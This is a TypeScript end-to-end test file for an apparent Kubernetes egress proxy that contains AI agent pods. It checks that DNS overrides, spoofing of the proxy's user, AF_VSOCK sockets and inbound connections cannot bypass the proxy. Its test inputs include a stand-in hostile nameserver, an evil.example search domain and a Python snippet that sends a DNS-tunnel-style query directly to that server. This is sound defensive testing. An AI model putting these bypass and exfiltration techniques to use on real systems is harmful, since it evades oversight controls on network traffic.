import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { eventually } from '../support/eventually.ts'
import {
  agentPod,
  CALLS,
  inAgent,
  inForce,
  leftFor,
  leftOutside,
  ours,
  podTemplate,
  running,
  startVendor,
  VENDOR,
  type Vendor,
} from './agents.ts'
import { openControlPlane } from './control-plane.ts'
import { AGENTS, install } from './installation.ts'
import { apply, get, kube, kubectl, refusalOf } from './kubectl.ts'
import { type NodeAccess, openNode } from './node-access.ts'

const GATEWAY = 'authors'
const ALLOWED = 'downloads.vendor.test'
/** A DNS server of the author, of which every packet is recorded as having left. */
const HOSTILE = '198.51.100.53'
/** A search domain that the author appends to names. */
const HIDING = 'evil.example'
let vendor: Vendor
let node: NodeAccess

beforeAll(async () => {
  await install(inject('installation'))
  vendor = await startVendor(GATEWAY, { egress: { allowedHosts: [ALLOWED] } })
  node = await openNode('authors')
})
afterAll(async () => {
  await node?.[Symbol.asyncDispose]()
  await vendor?.[Symbol.asyncDispose]()
})

describe('DNS settings of a pod', () => {
  const SHAPES = {
    'dns-none': { dnsPolicy: 'None', dnsConfig: { nameservers: [HOSTILE], searches: [HIDING] } },
    'dns-added': { dnsConfig: { nameservers: [HOSTILE] } },
    'dns-searches': { dnsConfig: { searches: [HIDING] } },
    'dns-default': { dnsPolicy: 'Default' },
    'dns-hosts': {
      hostAliases: [{ ip: '8.8.4.4', hostnames: [ALLOWED, 'chaperone-control-plane.chaperone-system.svc'] }],
    },
  }

  test('do not affect the proxy, and the agent’s queries end at the sidecar', async () => {
    const names = Object.keys(SHAPES)
    await apply(...Object.entries(SHAPES).map(([name, spec]) => agentPod(name, GATEWAY, { spec })))
    await running(...names)
    await inForce(GATEWAY)
    // Side by side: most of the time is that of questions without an answer.
    const call = async (name: string) => {
      expect((await inAgent(name, CALLS.node('GET'))).stdout, name).toMatch(/^200/)
      await inAgent(name, ['curl', '-sSk', '-m', '4', `https://${ALLOWED}/x`])
      await inAgent(name, ['python3', '-c', askDirectly])
    }
    await Promise.all(names.map(call))
    for (const name of names) expect((await leftOutside(name)) ?? [], name).toEqual([])
    expect((await leftFor([HOSTILE, '8.8.4.4'])) ?? []).toEqual([])
    // The resolver of the image first looks up the name of the vendor below the author's domain. The record has the
    // domain.
    await using controlPlane = await openControlPlane()
    type Traffic = { readonly traffic: ReadonlyArray<{ readonly host: string | null }> }
    const agent = encodeURIComponent(`${AGENTS}/dns-searches`)
    const hidden = `${VENDOR}.${HIDING}`
    await eventually('the look-up is recorded with the domain of the author', async () => {
      const path = `/api/dashboard/traffic?limit=500&agent=${agent}`
      const { traffic } = await controlPlane.call<Traffic>('GET', path)
      return traffic.some(({ host }) => host?.startsWith(hidden)) || null
    })
  })
})

describe('the user of an image', () => {
  test('that equals the uid of the proxy is detected by its sockets; a running container without a uid keeps its image', async () => {
    await apply(agentPod('user', GATEWAY))
    await running('user')
    const [image, patched] = await Promise.all([
      kubectl(['-n', AGENTS, 'set', 'image', 'pod/user', 'agent=busybox']),
      kubectl([
        ...['-n', AGENTS, 'patch', 'pod', 'user', '--subresource=status', '--type=merge'],
        ...['-p', '{"metadata":{"labels":{"chaperone.dev/layer":null}}}'],
      ]),
    ])
    expect(image.stderr).toContain('set securityContext.runAsUser')
    expect(patched.stderr).toContain('metadata:')
    const possible = () => conditionOf('BypassPossible')
    await eventually(
      'BypassPossible',
      async () => ((await possible())?.reason === 'ImageUserUnknown' ? true : null),
      60_000,
    )
    expect((await conditionOf('BypassDetected'))?.status).toBe('False')
    // The node starts a process of the proxy's user in the network of the pod, as an image with this user would.
    await node.openSocketAsProxyUser('user')
    await eventually(
      'BypassDetected',
      async () => ((await conditionOf('BypassDetected'))?.reason === 'ProxyUserShared' ? true : null),
      60_000,
    )
    await kube(['delete', 'pod', 'user', '-n', AGENTS, '--wait=false'])
  })

  test('is a number in every container under hardening: strict', async () => {
    await apply(ours('Gateway', 'authors-strict', { hardening: 'strict' }))
    const nonRoot = { securityContext: { runAsNonRoot: true } }
    const refused = await refusalOf(agentPod('strict', 'authors-strict', { spec: nonRoot }))
    expect(refused).toContain('spec.containers[0].securityContext.runAsUser')
    const numeric = { securityContext: { runAsNonRoot: true, runAsUser: 1000 } }
    await apply(agentPod('strict', 'authors-strict', { spec: numeric }))
    await running('strict')
  })
})

test('the seccomp profile of the Gateway closes AF_VSOCK, and without it the Gateway says so', async () => {
  await node.writeSeccompProfile('chaperone-test.json', NO_VSOCK)
  await apply(
    ours('Gateway', 'authors-vsock', { agents: { seccompProfile: 'chaperone-test.json' } }),
    ours('Gateway', 'authors-open', {}),
  )
  const open = { securityContext: { runAsUser: 1000 } }
  await apply(
    agentPod('vsock-closed', 'authors-vsock', { spec: open }),
    agentPod('vsock-open', 'authors-open', { spec: open }),
  )
  await running('vsock-closed', 'vsock-open')
  const { stdout } = await inAgent('vsock-closed', ['python3', '-c', VSOCK])
  expect(stdout).toContain('PermissionError')
  for (const [gateway, status] of [
    ['authors-open', 'True'],
    ['authors-vsock', 'False'],
  ] as const)
    await eventually(
      `BypassPossible of ${gateway} is ${status}`,
      async () => ((await conditionOf('BypassPossible', gateway))?.status === status ? true : null),
      60_000,
    )
  expect((await conditionOf('BypassPossible', 'authors-open'))?.reason).toBe('VsockAdmitted')
})

/** Stands for the default profile of a runtime without AF_VSOCK (40). */
const NO_VSOCK = {
  defaultAction: 'SCMP_ACT_ALLOW',
  syscalls: [
    {
      names: ['socket'],
      action: 'SCMP_ACT_ERRNO',
      args: [{ index: 0, value: 40, op: 'SCMP_CMP_EQ' }],
    },
  ],
}
const VSOCK = `
import socket
try:
  socket.socket(40, socket.SOCK_STREAM); print('OPEN')
except Exception as e:
  print(type(e).__name__, e)
`

test('a one-shot client with startOnlyWithRules waits for the rules; its first answer is 200', async () => {
  const agents = { startOnlyWithRules: true }
  await apply(ours('Gateway', GATEWAY, { egress: { allowedHosts: [ALLOWED] }, agents }), {
    apiVersion: 'networking.k8s.io/v1',
    kind: 'NetworkPolicy',
    metadata: { name: 'no-control-plane', namespace: AGENTS },
    spec: { podSelector: { matchLabels: { app: 'late' } }, policyTypes: ['Egress'], egress: [] },
  })
  const spec = { restartPolicy: 'Never' }
  const pod = agentPod('late', GATEWAY, { spec, command: CALLS.node('GET') })
  await apply({ ...pod, metadata: { ...pod.metadata, labels: { app: 'late' } } })
  const log = () => kubectl(['logs', 'late', '-n', AGENTS, '-c', 'chaperone-proxy'])
  await eventually(
    'the sidecar says what the agent waits for',
    async () => ((await log()).stdout.includes('the agent waits for the sidecar') ? true : null),
    60_000,
  )
  await kube(['delete', 'networkpolicy', 'no-control-plane', '-n', AGENTS])
  await kube(['wait', 'pod/late', '-n', AGENTS, '--for=jsonpath={.status.phase}=Succeeded', '--timeout=60s'])
  const said = await kube(['logs', 'late', '-n', AGENTS, '-c', 'agent'])
  expect(said).toMatch(/^200/)
})

test('inbound: deny closes the ports of an agent to other pods, and its probes pass', async () => {
  await apply(ours('Gateway', 'authors-inward', { inbound: 'deny' }), ours('Gateway', 'authors-outward', {}))
  const listening = {
    command: ['python3', '-m', 'http.server', '9000'],
    container: { readinessProbe: { httpGet: { path: '/', port: 9000 }, periodSeconds: 1 } },
  }
  await apply(
    agentPod('inward', 'authors-inward', listening),
    agentPod('outward', 'authors-outward', listening),
    {
      ...{ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'caller', namespace: AGENTS } },
      spec: podTemplate(GATEWAY).spec,
    },
  )
  await running('inward', 'outward', 'caller')
  const addressOf = async (pod: string) =>
    (await kube(['get', 'pod', pod, '-n', AGENTS, '-o', 'jsonpath={.status.podIP}'])).trim()
  const call = async (pod: string, port: number) =>
    (await inAgent('caller', ['curl', '-sS', '-m', '3', `http://${await addressOf(pod)}:${port}/`])).code
  expect(await call('outward', 9_000)).toBe(0)
  for (const port of [9_000, 15_021]) expect(await call('inward', port), String(port)).not.toBe(0)
  await kube(['delete', 'pod', 'inward', 'outward', 'caller', '-n', AGENTS, '--wait=false'])
  // Other tests expect no NetworkPolicy of inbound connections in this namespace.
  await kube(['delete', 'cgw/authors-inward', 'cgw/authors-outward', '-n', AGENTS])
})

test('a namespace that enforces PodSecurity refuses pods with remedies, and admits pods with proxyEnv', async () => {
  const name = 'chaperone-test-restricted'
  const labels = { 'pod-security.kubernetes.io/enforce': 'restricted' }
  await apply(
    { apiVersion: 'v1', kind: 'Namespace', metadata: { name, labels } },
    { ...ours('Gateway', 'main', {}), metadata: { name: 'main', namespace: name } },
  )
  try {
    const pod = agentPod('refused', 'main')
    const refused = await eventually('the pod is refused', async () => {
      const says = await refusalOf({ ...pod, metadata: { ...pod.metadata, namespace: name } })
      return says?.includes('is not a Gateway') === false ? says : null
    })
    expect(refused).toContain('interception: proxyEnv')
    expect(refused).toContain('pod-security.kubernetes.io/enforce=privileged')
    expect(refused).toContain('chaperone.dev/inject=required')
    await apply({
      ...ours('Gateway', 'cooperative', { interception: 'proxyEnv' }),
      metadata: { name: 'cooperative', namespace: name },
    })
    const securityContext = { runAsUser: 1000, runAsNonRoot: true }
    const cooperative = agentPod('admitted', 'cooperative', { spec: { securityContext } })
    const admitted = { ...cooperative, metadata: { ...cooperative.metadata, namespace: name } }
    // The admission policies follow the new Gateway.
    await eventually('the pod is admitted', async () => {
      const refusal = await refusalOf(admitted)
      if (refusal === null) return true
      expect(refusal).toMatch(/is not a Gateway|which only a Gateway with interception: proxyEnv allows/)
      return null
    })
    await kube(['wait', 'pod/admitted', '-n', name, '--for=condition=Ready', '--timeout=90s'])
    const shown = ['get', 'pod', 'admitted', '-n', name, '-o', 'jsonpath={.metadata.labels}']
    expect(JSON.parse(await kube(shown))).toMatchObject({ 'chaperone.dev/layer': 'Cooperative' })
  } finally {
    await kube(['delete', 'namespace', name, '--wait=false'])
  }
})

type Condition = { readonly type: string; readonly status: string; readonly reason: string }

async function conditionOf(type: string, gateway = GATEWAY): Promise<Condition | undefined> {
  type Object = { readonly status?: { readonly conditions?: readonly Condition[] } }
  const found = await get<Object>('gateways.chaperone.dev', gateway, AGENTS)
  return found?.status?.conditions?.find((one) => one.type === type)
}

/** Sends a query to a server of its own, over UDP and TCP. */
const askDirectly = `
import socket
q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x06tunnel\\x04test\\x00\\x00\\x01\\x00\\x01'
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
  try:
    s = socket.socket(socket.AF_INET, kind); s.settimeout(2); s.connect(('${HOSTILE}', 53))
    s.sendall(q if kind == socket.SOCK_DGRAM else len(q).to_bytes(2, 'big') + q); print(s.recv(500))
  except Exception as e:
    print(e)
`
